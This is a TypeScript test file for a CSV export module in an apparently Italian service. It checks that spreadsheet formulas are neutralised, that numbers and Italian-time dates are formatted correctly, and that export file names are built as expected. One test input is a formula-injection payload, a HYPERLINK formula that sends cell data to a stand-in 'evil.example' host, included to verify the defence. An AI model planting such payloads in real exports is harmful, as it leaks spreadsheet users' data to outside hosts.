import { csvStringifier, exportFileName, neutraliseFormula } from './csv-format';

describe('CSV cells and formulas', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"Click")', `'=HYPERLINK("http://evil.example/?"&A1,"Click")`],
    ['+39 011 123456', "'+39 011 123456"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tcmd', "'\tcmd"],
    ['\rcmd', "'\rcmd"],
    ['Bar Sport = buono', 'Bar Sport = buono'],
    ['', ''],
  ])('writes %j as %j', (typed, written) => {
    expect(neutraliseFormula(typed)).toBe(written);
  });

  it('leaves numbers alone, negative ones included', async () => {
    const csv = csvStringifier([
      { key: 'name', header: 'Nome' },
      { key: 'delta', header: 'Scarto' },
    ]);
    const chunks: string[] = [];
    csv.on('data', (chunk: Buffer) => chunks.push(chunk.toString()));
    const done = new Promise((resolve) => csv.on('end', resolve));
    csv.write({ name: '=1+1', delta: -3.5 });
    csv.end();
    await done;
    expect(chunks.join('').slice(1).split('\n')[1]).toBe("'=1+1;-3,5");
  });

  it('writes instants in Italian time with their offset', async () => {
    const csv = csvStringifier([{ key: 'start', header: 'Inizio' }]);
    const chunks: string[] = [];
    csv.on('data', (chunk: Buffer) => chunks.push(chunk.toString()));
    const done = new Promise((resolve) => csv.on('end', resolve));
    csv.write({ start: new Date('2026-11-05T23:00:00.000Z') });
    csv.end();
    await done;
    expect(chunks.join('').slice(1).split('\n')[1]).toBe('2026-11-06T00:00:00.000+01:00');
  });
});

describe('exportFileName', () => {
  it('names the export, the filter it was asked with and the Italian day', () => {
    const now = new Date('2026-12-05T23:30:00Z');
    expect(exportFileName('kpis', {}, now)).toBe('vicini-e-connessi-kpis-2026-12-06.csv');
    expect(
      exportFileName('kpis', { regionCode: '08', provinceCode: '099', category: 'HOME_DELIVERY', atecoSection: 'G', from: new Date('2026-02-28T23:00:00Z'), to: new Date('2026-03-31T22:00:00Z') }, now),
    ).toBe('vicini-e-connessi-kpis-regione-08-provincia-099-servizio-HOME_DELIVERY-ateco-G-dal-2026-03-01-al-2026-03-31-2026-12-06.csv');
  });
});
